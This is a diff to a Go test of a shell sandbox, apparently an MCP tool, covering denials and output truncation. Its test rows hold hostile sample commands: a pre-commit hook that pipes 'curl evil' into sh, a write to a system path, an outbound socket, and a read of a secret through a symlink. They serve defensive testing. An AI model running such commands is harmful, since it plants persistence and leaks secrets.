@@ -77,11 +77,11 @@ func TestStdioHostileTranscript(t *testing.T) {
 		hostileRow{"shell: network", "shell", map[string]any{"command": "/usr/bin/python3 -c \"import socket; socket.create_connection(('192.0.2.1', 80), timeout=5)\""},
 			[]string{"failure type: sandbox_denied", "network access is disabled for this sandbox", "writable paths: "}, "network"},
 		hostileRow{"shell: write to the system", "shell", map[string]any{"command": "echo pwned > /usr/cordon-mcp-test"},
-			[]string{"failure type: sandbox_denied", "Read-only file system", "writable paths: ", f.ws + " (except "}, "readonly"},
+			[]string{"failure type: sandbox_denied", "Read-only file system", "writable: ", f.ws + " (except "}, "readonly"},
 		hostileRow{"shell: write a git hook", "shell", map[string]any{"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"},
-			[]string{"failure type: sandbox_denied", "protected path", "writable paths: "}, "protect"},
+			[]string{"failure type: sandbox_denied", "protected path", "writable: "}, "protect"},
 		hostileRow{"shell: read through a symlink out", "shell", map[string]any{"command": "cat up/secret.txt"},
-			[]string{"failure type: sandbox_denied", "writable paths: "}, "outside"},
+			[]string{"failure type: sandbox_denied", "readable: "}, "outside"},
 		hostileRow{"shell: timeout above the sandbox's", "shell", map[string]any{"command": "true", "timeout": 999},
 			[]string{"above this sandbox's maximum of 20 seconds", "at most 20"}, ""},
 	)
@@ -96,6 +96,10 @@ func TestStdioHostileTranscript(t *testing.T) {
 				if !strings.Contains(text, w) {
 					t.Errorf("tool error does not contain %q:\n%s", w, text)
 				}
+			}
+			// A denial says what IS allowed once, never twice.
+			if strings.Count(text, "writable: ")+strings.Count(text, "writable paths: ") > 1 {
+				t.Errorf("the writable list is repeated:\n%s", text)
 			}
 		})
 	}
@@ -132,11 +136,11 @@ func TestStdioHostileTranscript(t *testing.T) {
 		strings.Contains(text, "the sandbox allows") {
 		t.Errorf("exit 3 = %q (error %v), want a process_error with exit code 3 and no sandbox note", text, isErr)
 	}
-	// Long output is cut, and says so.
-	text, _ = call(t, cs, "shell", map[string]any{"command": "head -c 60000 /dev/zero | tr '\\0' a"})
-	if !strings.Contains(text, strings.Repeat("a", 50000)+"\n[cordon: stdout cut at 50000 characters; it had 60000 bytes]") ||
-		strings.Contains(text, strings.Repeat("a", 50001)) {
-		t.Errorf("60000 characters of stdout were not cut at 50000 with a note (len %d)", len(text))
+	// Long output keeps its head and its tail, and says what was cut.
+	text, _ = call(t, cs, "shell", map[string]any{"command": "head -c 30000 /dev/zero | tr '\\0' a; head -c 30000 /dev/zero | tr '\\0' z"})
+	if !strings.Contains(text, strings.Repeat("a", 25000)+"\n[cordon: stdout: 10000 bytes cut from the middle; the first and the last 25000 characters are kept]\n"+strings.Repeat("z", 25000)) ||
+		strings.Contains(text, strings.Repeat("a", 25001)) || strings.Contains(text, strings.Repeat("z", 25001)) {
+		t.Errorf("60000 characters of stdout did not keep 25000 of the head and of the tail with a note (len %d)", len(text))
 	}
 
 	after := treeHash(t, f.base)
